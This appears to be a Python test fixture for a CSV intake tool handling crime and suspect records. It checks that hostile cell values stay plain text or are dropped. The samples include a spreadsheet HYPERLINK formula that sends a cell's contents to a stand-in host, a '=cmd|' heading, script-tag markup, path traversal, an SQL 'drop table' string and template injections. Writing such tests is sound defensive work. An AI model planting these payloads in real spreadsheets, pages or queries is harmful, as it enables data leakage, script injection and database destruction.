"""Files with cells that would be dangerous if they were anything but text."""

from typing import Final

from tests.unit.dashboard.intake.corpus.trouble import FIRST, HEAD, SECOND, of_lines

LINK: Final = '=HYPERLINK("http://made-up.example/?"&A1,"click")'
SCRIPT: Final = "<script>alert('made up')</script>"
QUOTED: Final = LINK.replace('"', '""')

TROUBLES: Final = [
    of_lines(
        "formulas stay text",
        f"{HEAD},suspect_name",
        f'{FIRST},"{QUOTED}"',
        f"{SECOND},+44 made up",
        "@C3,=1+1,019/08,2026-01-05,-Sample",
        rows=3,
        accepted=3,
        values={
            "crime_ref": ["C1", "C2", "@C3"],
            "suspect_id": ["S1", "S2", "=1+1"],
            "suspect_name": [LINK, "+44 made up", "-Sample"],
        },
    ),
    of_lines(
        "markup stays text",
        f"{HEAD},suspect_name",
        f"{FIRST},{SCRIPT}",
        f"{SCRIPT},{SCRIPT}2,019/08,2026-01-05,<b>Bold</b> & <i>Made-Up</i>",
        rows=2,
        accepted=2,
        values={
            "crime_ref": ["C1", SCRIPT],
            "suspect_name": [SCRIPT, "<b>Bold</b> & <i>Made-Up</i>"],
        },
    ),
    of_lines(
        "paths and statements stay text",
        HEAD,
        "../../x,../../etc/made-up,019/08,2026-01-05",
        "'; drop table crimes; --,S2,008/06,2026-01-06",
        "{{C3}},${S3},%s,2026-01-06",
        rows=3,
        accepted=3,
        repaired={"quotation marks or unseen characters around references": 1},
        values={
            "crime_ref": ["../../x", "; drop table crimes; --", "{{C3}}"],
            "suspect_id": ["../../etc/made-up", "S2", "${S3}"],
            "offence_code": ["019/08", "008/06", "%s"],
        },
    ),
    of_lines(
        "dangerous headings are dropped and named as they are",
        f'{HEAD},<script>x</script>,"=cmd|made-up",../../x',
        f"{FIRST},a,b,c",
        rows=1,
        accepted=1,
        dropped=["<script>x</script>", "=cmd|made-up", "../../x"],
    ),
]
